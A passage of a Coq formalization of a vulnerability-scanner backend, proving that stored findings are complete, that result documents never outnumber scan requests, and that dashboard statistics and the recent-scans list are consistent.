  fst (ai_triage_vulnerabilities demo_env (fun _ => Some "ranking")
         (mkTriageRequest [2%nat; 42%nat; 2%nat] None) scanned_world) =
    inr (mkTriageResponse "ranking" 2 8) /\ 8%nat <> 7%nat.
Proof.
  apply (ai_triage_success demo_env (fun _ => Some "ranking")
           (mkTriageRequest [2%nat; 42%nat; 2%nat] None) scanned_world "ranking").
  - intros n. reflexivity.
  - vm_compute. discriminate.
  - reflexivity.
Defined.

(* ================================================================= *)
(** ** The persisted findings *)

(** What a stored finding carries once [background_scan] has written
    it: a severity [test_payload] produces, both AI fields, no
    false-positive mark, and the scan request it belongs to. *)
Definition stored_ok (ss : list ScanRequest.t) (v : Vulnerability.t) : Prop :=
  produced_severity (Vulnerability.severity v) /\
  is_Some (Vulnerability.ai_summary v) /\ is_Some (Vulnerability.remediation_suggestion v) /\
  Vulnerability.false_positive v = false /\
  exists s, In s ss /\ ScanRequest.id s = Vulnerability.scan_id v.

(** A property of the [scans] and [vulnerabilities] collections. *)
Definition sv (J : list ScanRequest.t -> list Vulnerability.t -> Prop) (w : World) : Prop :=
  J (w_scans w) (w_vulns w).

(** An operation that writes neither collection. *)
Definition keeps_sv {A} (m : M A) : Prop :=
  forall w, w_scans (snd (m w)) = w_scans w /\ w_vulns (snd (m w)) = w_vulns w.

Lemma triple_keeps_sv {A} (J : list ScanRequest.t -> list Vulnerability.t -> Prop) (m : M A) :
  keeps_sv m -> triple (sv J) m (fun _ => sv J) (fun _ => sv J).
Proof.
  intros Hk w Hw. specialize (Hk w). unfold sv in *.
  destruct (m w) as [[e|x] w']; simpl in Hk; destruct Hk as [-> ->]; exact Hw.
Qed.

Lemma keeps_sv_bind {A B} (m : M A) (k : A -> M B) :
  keeps_sv m -> (forall x, keeps_sv (k x)) -> keeps_sv (bind m k).
Proof.
  intros Hm Hk w. specialize (Hm w). unfold bind.
  destruct (m w) as [[e|x] w']; simpl in *; [exact Hm|].
  destruct (Hk x w') as [-> ->]. exact Hm.
Qed.

Lemma keeps_sv_ret {A} (x : A) : keeps_sv (ret x).
Proof. intros w. split; reflexivity. Qed.

Lemma keeps_sv_raise {A} e : keeps_sv (raise (A:=A) e).
Proof. intros w. split; reflexivity. Qed.

Lemma keeps_sv_db_op {A} env (f : World -> A * World) :
  (forall w, w_scans (snd (f w)) = w_scans w /\ w_vulns (snd (f w)) = w_vulns w) ->
  keeps_sv (db_op env f).
Proof.
  intros Hf w. unfold db_op. destruct (env_db_fails env (w_dbops w)); [split; reflexivity|].
  specialize (Hf (set_dbops w (S (w_dbops w)))).
  destruct (f _) as [x w2]. exact Hf.
Qed.

Lemma keeps_sv_now env : keeps_sv (now env).
Proof. intros w. split; reflexivity. Qed.

Lemma keeps_sv_fresh_uuid : keeps_sv fresh_uuid.
Proof. intros w. split; reflexivity. Qed.

Lemma keeps_sv_update env sid patch : keeps_sv (update_one_result env sid patch).
Proof.
  apply keeps_sv_db_op. intros w. destruct (update_first sid patch (w_results w)).
  split; reflexivity.
Qed.

Lemma keeps_sv_insert_result env r : keeps_sv (insert_result env r).
Proof. apply keeps_sv_db_op. intros w. split; reflexivity. Qed.

Lemma keeps_sv_call_oracle env c : keeps_sv (call_oracle env c).
Proof. unfold call_oracle. destruct (env_oracle env c); [apply keeps_sv_ret|apply keeps_sv_raise]. Qed.

Lemma keeps_sv_getitem counts k : keeps_sv (getitem counts k).
Proof. unfold getitem. destruct (counts !! k); [apply keeps_sv_ret|apply keeps_sv_raise]. Qed.

Lemma keeps_sv_count_severities counts l : keeps_sv (foldM count_severity counts l).
Proof.
  revert counts. induction l as [|v l IH]; intros counts; simpl; [apply keeps_sv_ret|].
  apply keeps_sv_bind; [|exact IH]. unfold count_severity.
  destruct (counts !! _); [apply keeps_sv_ret|apply keeps_sv_raise].
Qed.

Create HintDb keeps.
#[local] Hint Resolve keeps_sv_bind keeps_sv_ret keeps_sv_raise keeps_sv_now keeps_sv_fresh_uuid
  keeps_sv_update keeps_sv_insert_result keeps_sv_call_oracle keeps_sv_getitem
  keeps_sv_count_severities : keeps.

(** A finding of [perform_xss_scan], before analysis. *)
Definition raw_ok (req : ScanRequest.t) (v : Vulnerability.t) : Prop :=
  Vulnerability.scan_id v = ScanRequest.id req /\
  produced_severity (Vulnerability.severity v) /\ Vulnerability.false_positive v = false.

Lemma perform_xss_scan_raw_ok fetched req n :
  Forall (raw_ok req) (acc_vulns (perform_xss_scan fetched req (scan_start n))).
Proof.
  destruct (perform_xss_scan_inv fetched req n) as (_ & _ & _ & _ & Hv).
  apply List.Forall_forall. intros v Hin.
  destruct (proj1 (List.Forall_forall _ _) Hv v Hin) as (c & _ & Ht).
  split; [|split; [exact (test_payload_severity _ _ _ _ _ _ _ Ht)|]];
    unfold test_payload in Ht; destruct (existsb _ markers); try discriminate;
    injection Ht as <-; reflexivity.
Qed.

Lemma analyze_stored_ok env req ss v :
  raw_ok req v -> (exists s, In s ss /\ ScanRequest.id s = ScanRequest.id req) ->
  stored_ok ss (analyze_vulnerability_with_ai env v).
Proof.
  intros (Hsid & Hsev & Hfp) (s & Hs & Hid).
  unfold stored_ok, analyze_vulnerability_with_ai.
  destruct (env_oracle env (Analysis _)); [destruct (env_oracle env (Remediation _))|];
    simpl; (split; [exact Hsev|]); (split; [eexists; reflexivity|]);
    (split; [eexists; reflexivity|]); (split; [exact Hfp|]);
    exists s; (split; [exact Hs|]); congruence.
Qed.

Lemma stored_ok_mono ss x v : stored_ok ss v -> stored_ok (ss ++ x)%list v.
Proof.
  intros (H1 & H2 & H3 & H4 & s & Hs & Hid). repeat (split; [assumption|]).
  exists s. split; [apply in_or_app; now left|exact Hid].
Qed.

Lemma triple_snd {A} (P I : World -> Prop) (m : M A) w :
  triple P m (fun _ => I) (fun _ => I) -> P w -> I (snd (m w)).
Proof. intros H Hw. specialize (H w Hw). destruct (m w) as [[e|x] w']; exact H. Qed.

(** Every stored finding is complete. *)
Definition SJ (ss : list ScanRequest.t) (vs : list Vulnerability.t) : Prop :=
  Forall (stored_ok ss) vs.

(** ... and the request of the running scan is stored. *)
Definition VJ (req : ScanRequest.t) (ss : list ScanRequest.t) (vs : list Vulnerability.t) : Prop :=
  Forall (stored_ok ss) vs /\ exists s, In s ss /\ ScanRequest.id s = ScanRequest.id req.

Lemma triple_insert_vuln_vj env req v :
  (forall ss, (exists s, In s ss /\ ScanRequest.id s = ScanRequest.id req) -> stored_ok ss v) ->
  triple (sv (VJ req)) (insert_vuln env v) (fun _ => sv (VJ req)) (fun _ => sv (VJ req)).
Proof.
  intros Hv w Hw. unfold insert_vuln, db_op. destruct (env_db_fails env _); [exact Hw|].
  destruct Hw as [Hall Hs]. unfold sv, VJ. simpl. split; [|exact Hs].
  apply Forall_app. split; [exact Hall|]. constructor; [|constructor]. exact (Hv _ Hs).
Qed.

Lemma triple_mapM_analyze_vj env req l :
  Forall (raw_ok req) l ->
  triple (sv (VJ req)) (mapM (analyze_and_store env) l) (fun _ => sv (VJ req))
    (fun _ => sv (VJ req)).
Proof.
  induction 1 as [|v l Hv _ IH]; simpl; [apply triple_ret; auto|].
  apply (triple_bind _ _ _ (fun _ => sv (VJ req))).
  - unfold analyze_and_store. eapply triple_bind.
    + apply triple_insert_vuln_vj. intros ss Hs. exact (analyze_stored_ok env req ss v Hv Hs).
    + intros u. apply triple_ret. auto.
  - intros y. eapply triple_bind; [exact IH|]. intros ys. apply triple_ret. auto.
Qed.

Lemma triple_scan_task_raw env req J :
  triple (sv J) (scan_task env req)
    (fun acc w => sv J w /\ Forall (raw_ok req) (acc_vulns acc)) (fun _ => sv J).
Proof.
  intros w Hw. unfold scan_task. simpl. split; [exact Hw|]. apply perform_xss_scan_raw_ok.
Qed.

Lemma triple_scan_stages_vj env req t :
  triple (sv (VJ req)) (scan_stages env req t) (fun _ => sv (VJ req)) (fun _ => sv (VJ req)).
Proof.
  unfold scan_stages. eapply triple_bind; [apply triple_scan_task_raw|]. intros acc.
  apply triple_lift. intros Hraw.
  eapply triple_bind; [apply triple_mapM_analyze_vj, Hraw|]. intros analyzed.
  apply triple_keeps_sv. destruct analyzed; auto with keeps.
Qed.

Lemma triple_background_scan_vj env req :
  triple (sv (VJ req)) (background_scan env req) (fun _ => sv (VJ req)) (fun _ => sv (VJ req)).
Proof.
  unfold background_scan. apply (triple_try _ _ _ _ (fun _ => sv (VJ req))).
  - unfold scan_body.
    eapply triple_bind; [apply triple_keeps_sv; auto with keeps|]. intros t0.
    eapply triple_bind; [apply triple_keeps_sv; auto with keeps|]. intros u.
    eapply triple_bind; [apply triple_keeps_sv; auto with keeps|]. intros st.
    eapply triple_bind; [apply triple_scan_stages_vj|]. intros stages.
    destruct stages as [[[[a e] d] c] s]. apply triple_keeps_sv. auto with keeps.
  - intros e. apply triple_keeps_sv. auto with keeps.
Qed.

Lemma triple_create_scan_sj env req :
  triple (sv SJ) (create_scan env req) (fun _ => sv (VJ req)) (fun _ => sv SJ).
Proof.
  unfold create_scan. apply (triple_bind _ _ _ (fun _ => sv (VJ req))).
  - intros w Hw. unfold insert_scan, db_op. destruct (env_db_fails env _); [exact Hw|].
    unfold sv, VJ, SJ in *. simpl. split.
    + eapply Forall_impl; [exact Hw|]. intros v Hv. now apply stored_ok_mono.
    + exists req. split; [apply in_or_app; right; now left|reflexivity].
  - intros u. apply (triple_post _ _ (fun _ => sv (VJ req)) _ (fun _ => sv (VJ req)) _).
    + intros x w H. exact H.
    + intros e w H. exact (proj1 H).
    + eapply triple_bind; [apply triple_keeps_sv; auto with keeps|]. intros rid.
      apply triple_keeps_sv. auto with keeps.
Qed.

Lemma triple_serve_sj env reqs :
  triple (sv SJ) (serve env reqs) (fun _ => sv SJ) (fun _ => sv SJ).
Proof.
  induction reqs as [|req reqs IH]; simpl; [apply triple_ret; auto|].
  eapply triple_bind; [|intros u; exact IH].
  apply (triple_try _ _ _ _ (fun _ => sv SJ)).
  - unfold submit. eapply triple_bind; [apply triple_create_scan_sj|]. intros u.
    apply (triple_post _ _ (fun _ => sv (VJ req)) _ (fun _ => sv (VJ req)) _).
    + intros x w H. exact (proj1 H).
    + intros e w H. exact (proj1 H).
    + apply triple_background_scan_vj.
  - intros e. apply triple_ret. auto.
Qed.

(* ================================================================= *)
(** ** One result document per stored request *)

(** An operation that leaves [f] of the world unchanged. *)
Definition keeps {B A} (f : World -> B) (m : M A) : Prop :=
  forall w, f (snd (m w)) = f w.

(** The number of [scan_results] documents and the [scans] collection. *)
Definition rsj (w : World) : nat * list ScanRequest.t := (length (w_results w), w_scans w).

Lemma triple_keeps {B A} (f : World -> B) (J : B -> Prop) (m : M A) :
  keeps f m -> triple (fun w => J (f w)) m (fun _ w => J (f w)) (fun _ w => J (f w)).
Proof.
  intros Hk w Hw. specialize (Hk w).
  destruct (m w) as [[e|x] w']; simpl in Hk; rewrite Hk; exact Hw.
Qed.

Lemma keeps_bind {B A C} (f : World -> B) (m : M A) (k : A -> M C) :
  keeps f m -> (forall x, keeps f (k x)) -> keeps f (bind m k).
Proof.
  intros Hm Hk w. specialize (Hm w). unfold bind.
  destruct (m w) as [[e|x] w']; simpl in *; [exact Hm|]. rewrite Hk. exact Hm.
Qed.

Lemma keeps_try {B A} (f : World -> B) (m : M A) h :
  keeps f m -> (forall e, keeps f (h e)) -> keeps f (try_except m h).
Proof.
  intros Hm Hh w. specialize (Hm w). unfold try_except.
  destruct (m w) as [[e|x] w']; simpl in *; [|exact Hm]. rewrite Hh. exact Hm.
Qed.

Lemma keeps_ret {B A} (f : World -> B) (x : A) : keeps f (ret x).
Proof. intros w. reflexivity. Qed.

Lemma keeps_raise {B A} (f : World -> B) e : keeps f (raise (A:=A) e).
Proof. intros w. reflexivity. Qed.

Lemma update_first_length sid patch rs : length (fst (update_first sid patch rs)) = length rs.
Proof.
  induction rs as [|r rs IH]; simpl; [reflexivity|].
  destruct (String.eqb _ sid); [reflexivity|].
  destruct (update_first sid patch rs) as [rs' o]. simpl in *. now rewrite IH.
Qed.

Lemma keeps_rsj_db_op {A} env (g : World -> A * World) :
  (forall w, rsj (snd (g w)) = rsj w) -> keeps rsj (db_op env g).
Proof.
  intros Hg w. unfold db_op. destruct (env_db_fails env (w_dbops w)); [reflexivity|].
  specialize (Hg (set_dbops w (S (w_dbops w)))). destruct (g _) as [x w2]. exact Hg.
Qed.

Lemma keeps_rsj_now env : keeps rsj (now env).
Proof. intros w. reflexivity. Qed.

Lemma keeps_rsj_fresh_uuid : keeps rsj fresh_uuid.
Proof. intros w. reflexivity. Qed.

Lemma keeps_rsj_update env sid patch : keeps rsj (update_one_result env sid patch).
Proof.
  apply keeps_rsj_db_op. intros w. pose proof (update_first_length sid patch (w_results w)).
  destruct (update_first sid patch (w_results w)). unfold rsj. simpl in *. now rewrite H.
Qed.

Lemma keeps_rsj_insert_vuln env v : keeps rsj (insert_vuln env v).
Proof. apply keeps_rsj_db_op. intros w. reflexivity. Qed.

Lemma keeps_rsj_call_oracle env c : keeps rsj (call_oracle env c).
Proof. unfold call_oracle. destruct (env_oracle env c); [apply keeps_ret|apply keeps_raise]. Qed.

Lemma keeps_rsj_getitem counts k : keeps rsj (getitem counts k).
Proof. unfold getitem. destruct (counts !! k); [apply keeps_ret|apply keeps_raise]. Qed.

Lemma keeps_rsj_count_severities counts l : keeps rsj (foldM count_severity counts l).
Proof.
  revert counts. induction l as [|v l IH]; intros counts; simpl; [apply keeps_ret|].
  apply keeps_bind; [|exact IH]. unfold count_severity.
  destruct (counts !! _); [apply keeps_ret|apply keeps_raise].
Qed.

Lemma keeps_rsj_scan_task env req : keeps rsj (scan_task env req).
Proof. intros w. reflexivity. Qed.

Lemma keeps_rsj_mapM_analyze env l : keeps rsj (mapM (analyze_and_store env) l).
Proof.
  induction l as [|v l IH]; simpl; [apply keeps_ret|].
  apply keeps_bind; [|intros y; apply keeps_bind; [exact IH|intros ys; apply keeps_ret]].
  unfold analyze_and_store. apply keeps_bind; [apply keeps_rsj_insert_vuln|intros u; apply keeps_ret].
Qed.

Create HintDb keeps_rsj.
#[local] Hint Resolve keeps_bind keeps_try keeps_ret keeps_raise keeps_rsj_now keeps_rsj_fresh_uuid
  keeps_rsj_update keeps_rsj_insert_vuln keeps_rsj_call_oracle keeps_rsj_getitem
  keeps_rsj_count_severities keeps_rsj_scan_task keeps_rsj_mapM_analyze : keeps_rsj.

Lemma keeps_rsj_background_scan env req : keeps rsj (background_scan env req).
Proof.
  unfold background_scan. apply keeps_try; [|intros e; unfold now; auto with keeps_rsj].
  unfold scan_body. do 3 (apply keeps_bind; [auto with keeps_rsj|intros ?]).
  apply keeps_bind.
  - unfold scan_stages. do 4 (apply keeps_bind; [auto with keeps_rsj|intros ?]).
    match goal with an : list Vulnerability.t |- _ => destruct an end;
      (apply keeps_bind; [auto with keeps_rsj|intros ?; apply keeps_ret]).
  - intros stages. destruct stages as [[[[a e] d] c] s].
    repeat (apply keeps_bind; [auto with keeps_rsj|intros ?]). auto with keeps_rsj.
Qed.

(** Never more result documents than stored requests. *)
Definition results_le (w : World) : Prop := (length (w_results w) <= length (w_scans w))%nat.

Lemma triple_create_scan_le env req :
  triple results_le (create_scan env req) (fun _ => results_le) (fun _ => results_le).
Proof.
  unfold create_scan.
  apply (triple_bind _ _ _ (fun _ w => length (w_results w) < length (w_scans w))%nat).
  - intros w Hw. unfold insert_scan, db_op. destruct (env_db_fails env _); [exact Hw|].
    unfold results_le in *. simpl. rewrite length_app. simpl. lia.
  - intros u w Hw. unfold bind, fresh_uuid, insert_result, db_op. simpl.
    unfold results_le. destruct (env_db_fails env _); simpl; [lia|].
    rewrite length_app. simpl. lia.
Qed.

Lemma triple_serve_le env reqs :
  triple results_le (serve env reqs) (fun _ => results_le) (fun _ => results_le).
Proof.
  assert (Hbg : forall req, triple results_le (background_scan env req) (fun _ => results_le)
                              (fun _ => results_le)).
  { intros req. apply (triple_keeps rsj (fun p => fst p <= length (snd p))%nat).
    apply keeps_rsj_background_scan. }
  induction reqs as [|req reqs IH]; simpl; [apply triple_ret; auto|].
  eapply triple_bind; [|intros u; exact IH].
  apply (triple_try _ _ _ _ (fun _ => results_le)).
  - unfold submit. eapply triple_bind; [apply triple_create_scan_le|]. intros u. apply Hbg.
  - intros e. apply triple_ret. auto.
Qed.

(* ================================================================= *)
(** ** [get_dashboard_stats] *)

Module DashboardStats.
Record t := mk {
    total_scans : nat;
    completed_scans : nat;
    total_vulnerabilities : nat;
    critical : nat;
    high : nat;
    medium : nat;
    low : nat;
    recent_scans : list ScanResult.t
  }.
End DashboardStats.

(** A Python [datetime] has microseconds, a BSON date milliseconds: pymongo
    stores the instant floored to the millisecond and reads that back. *)
Definition bson_date (t : Z) : Z := (t / 1000 * 1000)%Z.

(** A result document as the database holds it, and as [find] returns it. *)
Definition result_from_bson (r : ScanResult.t) : ScanResult.t :=
  ScanResult.mk (ScanResult.id r) (ScanResult.scan_id r) (ScanResult.status r)
    (ScanResult.total_vulnerabilities r) (ScanResult.critical_count r)
    (ScanResult.high_count r) (ScanResult.medium_count r) (ScanResult.low_count r)
    (ScanResult.ai_risk_score r) (ScanResult.ai_executive_summary r)
    (ScanResult.scan_duration r) (option_map bson_date (ScanResult.started_at r))
    (option_map bson_date (ScanResult.completed_at r)).

Definition stored_results (w : World) : list ScanResult.t := map result_from_bson (w_results w).

(** MongoDB orders a missing or null field before every date. *)
Definition bson_le (a b : option Z) : Prop :=
  match a, b with
  | None, _ => True
  | Some _, None => False
  | Some x, Some y => (x <= y)%Z
  end.

#[global] Instance bson_le_dec : RelDecision bson_le.
Proof.
  intros [x|] [y|]; unfold Decision, bson_le;
    [apply Z_le_dec|right; intros []|left; exact I|left; exact I].
Defined.

(** [.sort("completed_at", -1)]: latest first, on the stored dates. *)
Definition completed_at_ge (r1 r2 : ScanResult.t) : Prop :=
  bson_le (ScanResult.completed_at r2) (ScanResult.completed_at r1).

#[global] Instance completed_at_ge_dec : RelDecision completed_at_ge.
Proof. intros r1 r2. unfold completed_at_ge. apply _. Defined.

#[global] Instance completed_at_ge_total : Total completed_at_ge.
Proof.
  intros r1 r2. unfold completed_at_ge.
  destruct (ScanResult.completed_at r1) as [x|], (ScanResult.completed_at r2) as [y|]; simpl;
    auto; lia.
Qed.

(** [{"status": "completed"}] *)
Definition is_completed (r : ScanResult.t) : bool := String.eqb (ScanResult.status r) "completed".

(** [{"severity": s}] *)
Definition severity_is (s : string) (v : Vulnerability.t) : bool :=
  String.eqb (Vulnerability.severity v) s.

(** [collection.count_documents(filter)] *)
Definition count_documents {A} (env : Env) (coll : World -> list A) (filt : A -> bool) : M nat :=
  db_op env (fun w => (length (List.filter filt (coll w)), w)).

(** [db.scan_results.find({"status": "completed"}).sort("completed_at", -1).limit(5)];
    documents with the same [completed_at] keep their natural order (the
    server does not promise an order among them). *)
Definition find_recent_completed (env : Env) : M (list ScanResult.t) :=
  db_op env (fun w =>
    (take 5 (merge_sort completed_at_ge (List.filter is_completed (stored_results w))), w)).

(** Each [await] of the handler yields to the event loop, where the
    background scans run: [others k w] is the database as the [k]-th read
    finds it, after whatever other tasks wrote since the handler left it
    in [w]. *)
Definition read_after_others {A} (others : nat -> World -> World) (k : nat) (m : M A) : M A :=
  fun w => m (others k w).

(** No other task writes while the handler runs. *)
Definition no_other_writes : nat -> World -> World := fun _ w => w.

Definition get_dashboard_stats (env : Env) (others : nat -> World -> World)
    : AM DashboardStats.t :=
  atry
    (let? total_scans :=
       alift (read_after_others others 0 (count_documents env w_scans (fun _ => true))) in
     let? completed_scans :=
       alift (read_after_others others 1 (count_documents env w_results is_completed)) in
     let? total_vulnerabilities :=
       alift (read_after_others others 2 (count_documents env w_vulns (fun _ => true))) in
     let? critical_count :=
       alift (read_after_others others 3 (count_documents env w_vulns (severity_is "critical"))) in
     let? high_count :=
       alift (read_after_others others 4 (count_documents env w_vulns (severity_is "high"))) in
     let? medium_count :=
       alift (read_after_others others 5 (count_documents env w_vulns (severity_is "medium"))) in
     let? low_count :=
       alift (read_after_others others 6 (count_documents env w_vulns (severity_is "low"))) in
     let? recent_scans := alift (read_after_others others 7 (find_recent_completed env)) in
     aret (DashboardStats.mk total_scans completed_scans total_vulnerabilities
             critical_count high_count medium_count low_count recent_scans))
    (fun _ => araise (HTTPException 500 "Failed to get dashboard statistics")).

(** The five latest completed results of one state of the database. *)
Definition recent_of (w : World) : list ScanResult.t :=
  take 5 (merge_sort completed_at_ge (List.filter is_completed (stored_results w))).

(** The statistics read from one state of the database. *)
Definition dashboard_of (w : World) : DashboardStats.t :=
  DashboardStats.mk (length (w_scans w)) (length (List.filter is_completed (w_results w)))
    (length (w_vulns w))
    (length (List.filter (severity_is "critical") (w_vulns w)))
    (length (List.filter (severity_is "high") (w_vulns w)))
    (length (List.filter (severity_is "medium") (w_vulns w)))
    (length (List.filter (severity_is "low") (w_vulns w)))
    (recent_of w).

Lemma filter_all_true {A} (l : list A) : List.filter (fun _ => true) l = l.
Proof. induction l as [|x l IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma get_dashboard_stats_result env w :
  fst (get_dashboard_stats env no_other_writes w) =
    if existsb (fun k => env_db_fails env (k + w_dbops w)) (seq 0 8)
    then inl (HTTPException 500 "Failed to get dashboard statistics")
    else inr (dashboard_of w).
Proof.
  unfold get_dashboard_stats, read_after_others, no_other_writes, atry, abind, alift,
    count_documents, find_recent_completed, db_op.
  simpl.
  repeat match goal with |- context [env_db_fails env ?n] =>
    destruct (env_db_fails env n); simpl; [reflexivity|] end.
  now rewrite !filter_all_true.
Qed.

Lemma get_dashboard_stats_inr env w stats :
  fst (get_dashboard_stats env no_other_writes w) = inr stats -> stats = dashboard_of w.
Proof.
  rewrite get_dashboard_stats_result. destruct (existsb _ _); [discriminate|].
  intros H. now injection H.
Qed.

(** Whatever the other tasks write, the recent scans are those of one
    state of the database. *)
Lemma get_dashboard_stats_recent env others w stats :
  fst (get_dashboard_stats env others w) = inr stats ->
  exists w', DashboardStats.recent_scans stats = recent_of w'.
Proof.
  unfold get_dashboard_stats, read_after_others, atry, abind, alift,
    count_documents, find_recent_completed, db_op.
  simpl. intros H.
  repeat match type of H with context [env_db_fails env ?n] =>
    destruct (env_db_fails env n); simpl in H; try discriminate end.
  injection H as <-. simpl. eexists. reflexivity.
Qed.

Lemma get_dashboard_stats_error env others w e :
  fst (get_dashboard_stats env others w) = inl e ->
  e = HTTPException 500 "Failed to get dashboard statistics".
Proof.
  unfold get_dashboard_stats, atry.
  match goal with |- context [match ?m w with _ => _ end] =>
    destruct (m w) as [[e'|x] w'] end; simpl; [|discriminate].
  intros H. now injection H.
Qed.

Lemma filter_length_le' {A} (p : A -> bool) (l : list A) : (length (List.filter p l) <= length l)%nat.
Proof. induction l as [|x l IH]; simpl; [lia|destruct (p x); simpl; lia]. Qed.

Lemma filter_completed_stored l :
  List.filter is_completed (map result_from_bson l) = map result_from_bson (List.filter is_completed l).
Proof.
  induction l as [|r l IH]; simpl; [reflexivity|].
  unfold is_completed at 1. simpl. fold (is_completed r).
  destruct (is_completed r); simpl; now rewrite IH.
Qed.

Lemma Sorted_take {A} (R : relation A) (n : nat) (l : list A) :
  Sorted R l -> Sorted R (take n l).
Proof.
  intros H. revert n. induction H as [|x l Hs IH Hhd]; intros n; [destruct n; constructor|].
  destruct n as [|n]; simpl; [constructor|]. constructor; [apply IH|].
  destruct Hhd as [|y l' Hxy]; destruct n; simpl; constructor; exact Hxy.
Qed.

Lemma recent_of_props w :
  (length (recent_of w) <= 5)%nat /\
  Forall (fun r => ScanResult.status r = "completed") (recent_of w) /\
  Sorted completed_at_ge (recent_of w) /\
  exists l, Permutation l (List.filter is_completed (stored_results w)) /\
    Sorted completed_at_ge l /\ recent_of w = take 5 l.
Proof.
  unfold recent_of.
  set (l := merge_sort completed_at_ge (List.filter is_completed (stored_results w))).
  assert (Hp : Permutation l (List.filter is_completed (stored_results w)))
    by apply merge_sort_Permutation.
  assert (Hs : Sorted completed_at_ge l) by (apply Sorted_merge_sort; apply _).
  split; [rewrite length_take; lia|].
  split; [|split; [apply Sorted_take, Hs|exists l; auto]].
  apply Forall_take. apply (Permutation_Forall (Permutation_sym Hp)).
  apply List.Forall_forall. intros r Hr. apply filter_In in Hr.
  apply String.eqb_eq. exact (proj2 Hr).
Qed.

Lemma severity_counts_produced vs :
  Forall (fun v => produced_severity (Vulnerability.severity v)) vs ->
  length (List.filter (severity_is "low") vs) = 0%nat /\
  (length (List.filter (severity_is "critical") vs) + length (List.filter (severity_is "high") vs)
   + length (List.filter (severity_is "medium") vs) = length vs)%nat.
Proof.
  induction 1 as [|v vs Hv _ [IH1 IH2]]; cbn [List.filter length]; [lia|].
  assert (Hd : forall s, severity_is s v = String.eqb (Vulnerability.severity v) s)
    by reflexivity.
  rewrite !Hd. destruct Hv as [-> | [-> | ->]]; cbn [String.eqb Ascii.eqb Bool.eqb length];
    split; lia.
Qed.

Lemma stored_ok_severities ss vs :
  Forall (stored_ok ss) vs -> Forall (fun v => produced_severity (Vulnerability.severity v)) vs.
Proof. intros H. eapply Forall_impl; [exact H|]. intros v Hv. exact (proj1 Hv). Qed.
(** X10.  Every finding the server has stored, across any sequence of
    submissions, carries a severity "critical", "high" or "medium", an AI
    summary and a remediation (real or fallback text), is not marked as a
    false positive, and belongs to a stored scan request, provided the
    findings stored before were so. *)
Theorem stored_findings_complete (env : Env) (reqs : list ScanRequest.t) (w : World) :
  Forall (stored_ok (w_scans w)) (w_vulns w) ->
  Forall (stored_ok (w_scans (snd (serve env reqs w)))) (w_vulns (snd (serve env reqs w))).
Proof.
  intros H. exact (triple_snd (sv SJ) (sv SJ) (serve env reqs) w (triple_serve_sj env reqs) H).
Qed.

Lemma stored_findings_complete_witness :
  Forall (stored_ok (w_scans scanned_world)) (w_vulns scanned_world).
Proof. apply (stored_findings_complete demo_env [demo_req] empty_world). constructor. Defined.

(** X11.  After any sequence of submissions to a server whose stored
    findings were complete and which had no more result documents than
    requests (an empty database, say), the dashboard, when it answers and
    no other task writes during its reads, counts no "low" finding, its
    critical, high and medium counts add up to the total number of
    findings, and it never counts more completed scans than scans. *)
Theorem dashboard_after_serve (env : Env) (reqs : list ScanRequest.t) (w : World)
    (stats : DashboardStats.t) :
  Forall (stored_ok (w_scans w)) (w_vulns w) ->
  (length (w_results w) <= length (w_scans w))%nat ->
  fst (get_dashboard_stats env no_other_writes (snd (serve env reqs w))) = inr stats ->
  DashboardStats.low stats = 0%nat /\
  (DashboardStats.critical stats + DashboardStats.high stats + DashboardStats.medium stats =
     DashboardStats.total_vulnerabilities stats)%nat /\
  (DashboardStats.completed_scans stats <= DashboardStats.total_scans stats)%nat.
Proof.
  intros Hok Hle Hres. apply get_dashboard_stats_inr in Hres. subst stats.
  pose proof (triple_snd (sv SJ) (sv SJ) (serve env reqs) w (triple_serve_sj env reqs) Hok) as Hsj.
  pose proof (triple_snd results_le results_le (serve env reqs) w (triple_serve_le env reqs) Hle)
    as Hrl.
  unfold sv, SJ, results_le in *.
  destruct (severity_counts_produced _ (stored_ok_severities _ _ Hsj)) as [Hlow Hsum].
  unfold dashboard_of. simpl. split; [exact Hlow|]. split; [exact Hsum|].
  etransitivity; [apply filter_length_le'|exact Hrl].
Qed.

Lemma dashboard_after_serve_witness :
  DashboardStats.low (dashboard_of scanned_world) = 0%nat /\
  (DashboardStats.critical (dashboard_of scanned_world) +
   DashboardStats.high (dashboard_of scanned_world) +
   DashboardStats.medium (dashboard_of scanned_world) =
     DashboardStats.total_vulnerabilities (dashboard_of scanned_world))%nat /\
  (DashboardStats.completed_scans (dashboard_of scanned_world) <=
     DashboardStats.total_scans (dashboard_of scanned_world))%nat.
Proof.
  apply (dashboard_after_serve demo_env [demo_req] empty_world (dashboard_of scanned_world)).
  - constructor.
  - simpl. lia.
  - vm_compute. reflexivity.
Defined.

(** X12.  Whatever the background scans write between the eight reads of
    the dashboard, its recent scans, when it answers, are at most five
    results with status "completed", latest first by their stored
    (millisecond) completion time, a result without a completion time
    after all others: the first five of the completed results of one
    state of the database, in some order of that kind (ties have none).
    When no other task writes during the reads, that state is the
    database as the handler found it, and there are min(5,
    completed_scans) of them. *)
Theorem dashboard_recent_scans (env : Env) (w : World) :
  (forall others stats, fst (get_dashboard_stats env others w) = inr stats ->
     (length (DashboardStats.recent_scans stats) <= 5)%nat /\
     Forall (fun r => ScanResult.status r = "completed") (DashboardStats.recent_scans stats) /\
     Sorted completed_at_ge (DashboardStats.recent_scans stats) /\
     exists w' l, Permutation l (List.filter is_completed (stored_results w')) /\
       Sorted completed_at_ge l /\ DashboardStats.recent_scans stats = take 5 l) /\
  (forall stats, fst (get_dashboard_stats env no_other_writes w) = inr stats ->
     length (DashboardStats.recent_scans stats) =
       Nat.min 5 (DashboardStats.completed_scans stats) /\
     exists l, Permutation l (List.filter is_completed (stored_results w)) /\
       Sorted completed_at_ge l /\ DashboardStats.recent_scans stats = take 5 l).
Proof.
  split.
  - intros others stats Hres. apply get_dashboard_stats_recent in Hres as [w' ->].
    destruct (recent_of_props w') as (H1 & H2 & H3 & H4).
    split; [exact H1|]. split; [exact H2|]. split; [exact H3|]. exists w'. exact H4.
  - intros stats Hres. apply get_dashboard_stats_inr in Hres. subst stats.
    unfold dashboard_of. simpl.
    destruct (recent_of_props w) as (_ & _ & _ & l & Hp & Hs & Hr).
    split; [|exists l; auto].
    rewrite Hr, length_take, (Permutation_length Hp). unfold stored_results.
    rewrite filter_completed_stored, length_map. reflexivity.
Qed.

Lemma dashboard_recent_scans_witness :
  length (DashboardStats.recent_scans (dashboard_of scanned_world)) = 1%nat.
Proof.
  rewrite (proj1 (proj2 (dashboard_recent_scans demo_env scanned_world)
